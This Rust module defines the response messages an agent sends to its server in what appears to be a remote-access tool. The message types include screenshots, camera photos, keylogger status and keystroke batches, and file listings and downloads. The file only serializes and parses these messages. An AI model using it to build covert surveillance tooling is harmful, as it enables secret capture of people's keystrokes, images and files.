//! Typed view over response messages (agent → server).
//!
//! A response is a tag, a status, and a payload whose shape depends on the
//! tag.  Captures and errors carry a bare string payload; structured
//! results carry one of the types in [`crate::protocol::payloads`].

use serde::de::DeserializeOwned;
use serde::Serialize;
use serde_json::Value;
use thiserror::Error;

use crate::protocol::codec::EncodeError;
use crate::protocol::message::{Message, MessageKind};
use crate::protocol::payloads::{
    DirectoryListing, DriveList, FileContent, FileDetails, FsResult, KeylogBatch, KeylogStatus,
    PopupAnswer,
};

/// Status value of every response the agent produces.
pub const STATUS_OK: &str = "ok";

/// Why a [`Message`] could not be viewed as a [`Response`].
#[derive(Debug, Error, PartialEq)]
pub enum ResponseError {
    #[error("message is not a response")]
    NotAResponse,

    #[error("unknown response type `{0}`")]
    UnknownTag(String),

    #[error("`{tag}` response has no payload")]
    MissingPayload { tag: String },

    #[error("`{tag}` response has an invalid payload: {reason}")]
    InvalidPayload { tag: String, reason: String },
}

/// The tag-specific content of a response.
#[derive(Debug, Clone, PartialEq)]
pub enum ResponseBody {
    Pong,
    /// Base64 PNG.
    Screenshot(String),
    /// Base64 PNG.
    Photo(String),
    Popup(PopupAnswer),
    KeylogStatus(KeylogStatus),
    KeylogData(KeylogBatch),
    FileList(FsResult<DirectoryListing>),
    FileDownload(FsResult<FileContent>),
    FileInfo(FsResult<FileDetails>),
    DrivesList(FsResult<DriveList>),
    Error(String),
}

impl ResponseBody {
    /// Every response tag, in protocol order.
    pub const TAGS: [&'static str; 11] = [
        "pong",
        "screenshot",
        "photo",
        "popup",
        "keylog_status",
        "keylog_data",
        "file_list",
        "file_download",
        "file_info",
        "drives_list",
        "error",
    ];

    /// The wire tag of this body.
    pub fn tag(&self) -> &'static str {
        match self {
            ResponseBody::Pong => "pong",
            ResponseBody::Screenshot(_) => "screenshot",
            ResponseBody::Photo(_) => "photo",
            ResponseBody::Popup(_) => "popup",
            ResponseBody::KeylogStatus(_) => "keylog_status",
            ResponseBody::KeylogData(_) => "keylog_data",
            ResponseBody::FileList(_) => "file_list",
            ResponseBody::FileDownload(_) => "file_download",
            ResponseBody::FileInfo(_) => "file_info",
            ResponseBody::DrivesList(_) => "drives_list",
            ResponseBody::Error(_) => "error",
        }
    }
}

/// A response the agent sends to the server.
#[derive(Debug, Clone, PartialEq)]
pub struct Response {
    pub status: String,
    pub body: ResponseBody,
}

impl Response {
    /// A response with status `"ok"`.
    pub fn ok(body: ResponseBody) -> Self {
        Self {
            status: STATUS_OK.to_string(),
            body,
        }
    }

    /// An `error` response.  The status is still `"ok"`; the tag carries the
    /// failure.
    pub fn error(message: impl Into<String>) -> Self {
        Self::ok(ResponseBody::Error(message.into()))
    }

    pub fn tag(&self) -> &'static str {
        self.body.tag()
    }

    /// Converts the response into its wire [`Message`].
    ///
    /// # Errors
    ///
    /// Returns [`EncodeError::Serialize`] if a structured payload cannot be
    /// represented as JSON.
    pub fn to_message(&self) -> Result<Message, EncodeError> {
        let msg = Message::response(self.tag(), self.status.as_str());
        let payload = match &self.body {
            ResponseBody::Pong => return Ok(msg),
            ResponseBody::Screenshot(data)
            | ResponseBody::Photo(data)
            | ResponseBody::Error(data) => Value::String(data.clone()),
            ResponseBody::Popup(answer) => to_payload(answer)?,
            ResponseBody::KeylogStatus(status) => to_payload(status)?,
            ResponseBody::KeylogData(batch) => to_payload(batch)?,
            ResponseBody::FileList(result) => to_payload(result)?,
            ResponseBody::FileDownload(result) => to_payload(result)?,
            ResponseBody::FileInfo(result) => to_payload(result)?,
            ResponseBody::DrivesList(result) => to_payload(result)?,
        };
        Ok(msg.with_payload(payload))
    }

    /// Views a decoded message as a response.
    ///
    /// A missing `status` field is read as `"ok"`.  A `pong` ignores any
    /// payload it carries.
    ///
    /// # Errors
    ///
    /// Returns [`ResponseError`] for commands, unknown tags, and payloads
    /// that are absent or do not match the tag's shape.
    pub fn from_message(msg: Message) -> Result<Self, ResponseError> {
        if msg.kind != MessageKind::Response {
            return Err(ResponseError::NotAResponse);
        }
        let status = msg.status().unwrap_or(STATUS_OK).to_string();
        let tag = msg.tag;
        let payload = msg.payload;

        let body = match tag.as_str() {
            "pong" => ResponseBody::Pong,
            "screenshot" => ResponseBody::Screenshot(from_payload(&tag, payload)?),
            "photo" => ResponseBody::Photo(from_payload(&tag, payload)?),
            "popup" => ResponseBody::Popup(from_payload(&tag, payload)?),
            "keylog_status" => ResponseBody::KeylogStatus(from_payload(&tag, payload)?),
            "keylog_data" => ResponseBody::KeylogData(from_payload(&tag, payload)?),
            "file_list" => ResponseBody::FileList(from_payload(&tag, payload)?),
            "file_download" => ResponseBody::FileDownload(from_payload(&tag, payload)?),
            "file_info" => ResponseBody::FileInfo(from_payload(&tag, payload)?),
            "drives_list" => ResponseBody::DrivesList(from_payload(&tag, payload)?),
            "error" => ResponseBody::Error(error_text(payload)),
            _ => return Err(ResponseError::UnknownTag(tag)),
        };
        Ok(Self { status, body })
    }
}

fn to_payload<T: Serialize>(value: &T) -> Result<Value, EncodeError> {
    serde_json::to_value(value).map_err(|e| EncodeError::Serialize(e.to_string()))
}

fn from_payload<T: DeserializeOwned>(tag: &str, payload: Option<Value>) -> Result<T, ResponseError> {
    let value = payload.ok_or_else(|| ResponseError::MissingPayload {
        tag: tag.to_string(),
    })?;
    serde_json::from_value(value).map_err(|e| ResponseError::InvalidPayload {
        tag: tag.to_string(),
        reason: e.to_string(),
    })
}

/// Error payloads are normally strings; anything else is shown as JSON text.
fn error_text(payload: Option<Value>) -> String {
    match payload {
        Some(Value::String(text)) => text,
        Some(other) => other.to_string(),
        None => String::new(),
    }
}

// ── Tests ─────────────────────────────────────────────────────────────────────
